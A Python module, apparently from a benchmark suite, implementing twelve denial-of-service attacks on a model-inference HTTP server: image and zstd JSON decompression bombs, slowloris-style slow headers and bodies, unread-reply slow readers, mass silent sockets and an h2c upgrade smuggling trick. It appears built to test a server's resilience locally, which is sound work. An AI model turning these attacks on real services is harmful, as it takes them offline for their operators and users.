"""The attacks of `benchmarks.attacks`: clients that want to keep a cloud from serving others."""

import asyncio
import json
import math
import subprocess
from collections import Counter
from collections.abc import Awaitable, Callable
from io import BytesIO
from pathlib import Path
from urllib.parse import urlsplit
from urllib.request import urlopen

import numpy as np
import zstandard
from PIL import Image

from eenn.offload.protocol.encoding import encode_request
from eenn.offload.protocol.wire import FEATURES, IMAGE, IMAGE_MODEL, LOGITS, Request, model_name

Counts = Counter[str]
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
INFER = "/v2/models/{}/infer"


class Target:
    """The server under attack, and the end of the attack.

    Args:
        end: of the loop's time.
    """

    def __init__(self, url: str, end: float) -> None:
        parts = urlsplit(url)
        self.host, self.port = parts.hostname or "", parts.port or 0
        self.end, self.counts = end, Counter[str]()

    @property
    def left_s(self) -> float:
        return self.end - asyncio.get_running_loop().time()

    async def connect(self) -> Streams | None:
        try:
            streams = await asyncio.open_connection(self.host, self.port)
        except OSError:
            self.counts["not connected"] += 1
            return None
        self.counts["connected"] += 1
        return streams

    async def ask(self, content: bytes, patience_s: float) -> None:
        """Send a request on a connection of its own, and wait for the reply's status."""
        streams = await self.connect()
        if streams is None:
            await asyncio.sleep(0.05)
            return
        reader, writer = streams
        try:
            async with asyncio.timeout(patience_s):
                writer.write(content)
                await writer.drain()
                line = await reader.readline()
            self.counts[line[9:12].decode() or "closed"] += 1
        except TimeoutError:
            self.counts["left"] += 1
        except OSError:
            self.counts["reset"] += 1
        finally:
            writer.close()

    async def hold(self, content: bytes, piece: bytes = b"", pause_s: float = 1.0) -> None:
        """Send the start of a request, and pieces as long as the connection lasts; read nothing."""
        streams = await self.connect()
        if streams is None:
            await asyncio.sleep(0.2)
            return
        reader, writer = streams
        # Bytes that are not read here stay with the sender.
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        try:
            writer.write(content)
            while self.left_s > 0 and not writer.is_closing():
                await asyncio.sleep(pause_s)
                writer.write(piece)
                if not piece and reader.at_eof():
                    break
        except OSError:
            self.counts["reset"] += 1
        finally:
            writer.transport.abort()


def post(path: str, body: bytes, headers: dict[str, str], length: int | None = None) -> bytes:
    """Write a request, with a Content-Length that may differ from the body's."""
    lines = [f"POST {path} HTTP/1.1", "Host: localhost"]
    lines += [f"{name}: {value}" for name, value in headers.items()]
    lines.append(f"Content-Length: {len(body) if length is None else length}")
    return "\r\n".join([*lines, "", ""]).encode() + body


def one_bit_png(side: int) -> bytes:
    """Draw a black picture of one bit a pixel, which compresses a thousandfold."""
    file = BytesIO()
    Image.new("1", (side, side)).save(file, "PNG")
    return file.getvalue()


def images(count: int, side: int) -> bytes:
    """Write a request about `count` such pictures."""
    files = np.empty(count, object)
    files[:] = count * [one_bit_png(side)]
    return post(INFER.format(IMAGE_MODEL), *encode_request(Request({IMAGE: files})))


def json_of(part: bytes, size: int) -> bytes:
    """Write a request of `size` bytes of JSON, compressed."""
    text = b'{"inputs":[' + part * (size // len(part))
    headers = {"Content-Type": "application/json", "Content-Encoding": "zstd"}
    return post(INFER.format(model_name()), zstandard.compress(text), headers)


def echo(samples: int) -> bytes:
    """Write a request with the largest reply."""
    features = np.zeros((samples, 3, 224, 224), np.uint8)
    request = Request(
        {FEATURES: features}, {"scale": 1.0, "zero_point": 0}, {LOGITS: False}, 250 * "i"
    )
    return post(INFER.format(model_name()), *encode_request(request, compress=True))


async def repeated(
    target: Target, at_once: int, act: Callable[[], Awaitable[None]], pause_s: float = 0.0
) -> None:
    """Repeat an action on `at_once` tasks until the end of the attack."""

    async def repeat() -> None:
        while target.left_s > 0:
            await act()
            await asyncio.sleep(pause_s)

    await asyncio.gather(*(repeat() for _ in range(at_once)))


async def image_bombs_that_leave(target: Target) -> None:
    """Send 128 pictures of 49 million pixels a request, and hang up after 0.5 s."""
    content = images(128, 7000)
    await repeated(target, 8, lambda: target.ask(content, 0.5))


async def image_bombs_within_bounds(target: Target) -> None:
    """Send the largest number of pixels that is decoded for one request."""
    content = images(2, 7000)
    await repeated(target, 16, lambda: target.ask(content, 10.0))


async def empty_lists(target: Target) -> None:
    """Send 16 MiB of JSON lists in 1.4 kB."""
    content = json_of(b"[],", 2**24 - 100)
    await repeated(target, 10, lambda: target.ask(content, 10.0))


async def members(target: Target) -> None:
    """Send 16 MiB of members of JSON objects."""
    content = json_of(b'{"":{"":1}},', 2**24 - 100)
    await repeated(target, 10, lambda: target.ask(content, 10.0))


async def numbers_within_bounds(target: Target) -> None:
    """Send as many numbers as one sample has."""
    with urlopen(f"http://{target.host}:{target.port}/v2/models/{model_name()}") as reply:
        _, *shape = json.load(reply)["inputs"][0]["shape"]
    content = json_of(b"0.123,", 6 * math.prod(shape))
    await repeated(target, 10, lambda: target.ask(content, 10.0))


async def slow_readers(target: Target) -> None:
    """Ask for replies on 60 connections, and read none."""
    content = echo(1)
    await repeated(target, 60, lambda: target.hold(content))


async def readers_of_metrics(target: Target) -> None:
    """Ask for many replies at a time, and read none."""
    content = 2000 * b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n"
    await repeated(target, 60, lambda: target.hold(content))


async def silent_sockets(target: Target) -> None:
    """Open 1,500 connections, send nothing, and open them again."""
    await repeated(target, 1500, lambda: target.hold(b""), 0.1)


async def slow_heads(target: Target) -> None:
    """Send the heads of 1,500 requests byte by byte."""
    await repeated(target, 1500, lambda: target.hold(b"GET /v2 HTTP/1.1\r\nX: ", b"y"), 0.1)


async def slow_posters(target: Target) -> None:
    """Send the bodies of 900 requests byte by byte."""
    content = post(INFER.format(model_name()), b"{", {}, 100_000)
    await repeated(target, 900, lambda: target.hold(content, b" "), 0.1)


async def large_slow_posters(target: Target) -> None:
    """Send 40 bodies of 16 MiB that never end."""
    content = post(INFER.format(model_name()), bytes(2**24 - 1000), {}, 2**24)
    await repeated(target, 40, lambda: target.hold(content), 0.1)


async def upgrades(target: Target) -> None:
    """Hide requests in the body of one that asks for another protocol."""
    wish = {"Connection": "Upgrade", "Upgrade": "h2c"}
    content = post("/v2/repository/index", 50 * post("/v2/repository/index", b"", {}), wish)
    await repeated(target, 20, lambda: target.ask(content, 5.0))


Attack = Callable[[Target], Awaitable[None]]
ATTACKS: dict[str, Attack] = {
    own.__name__: own
    for own in (
        image_bombs_that_leave, image_bombs_within_bounds, empty_lists, members,
        numbers_within_bounds, slow_readers, readers_of_metrics, silent_sockets, slow_heads,
        slow_posters, large_slow_posters, upgrades,
    )
}  # fmt: skip
ATTACKS["silent_tls_sockets"] = silent_sockets
WITH_TLS = frozenset({"silent_tls_sockets"})


def make_certificate(folder: Path) -> tuple[Path, Path]:
    """Make a self-signed certificate for 127.0.0.1 and its key, new files in `folder`."""
    cert, key = folder / "cert.pem", folder / "key.pem"
    subprocess.run(
        "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 "
        f"-subj /CN=attacked -addext subjectAltName=IP:127.0.0.1 -keyout {key} -out {cert}".split(),
        check=True,
        capture_output=True,
    )
    return cert, key


def attack(name: str, url: str, seconds: float) -> dict[str, int]:
    """Attack the server at `url` for some seconds; gives the attacker's counts."""

    async def run() -> Counts:
        target = Target(url, asyncio.get_running_loop().time() + seconds)
        await ATTACKS[name](target)
        return target.counts

    return dict(asyncio.run(run()))
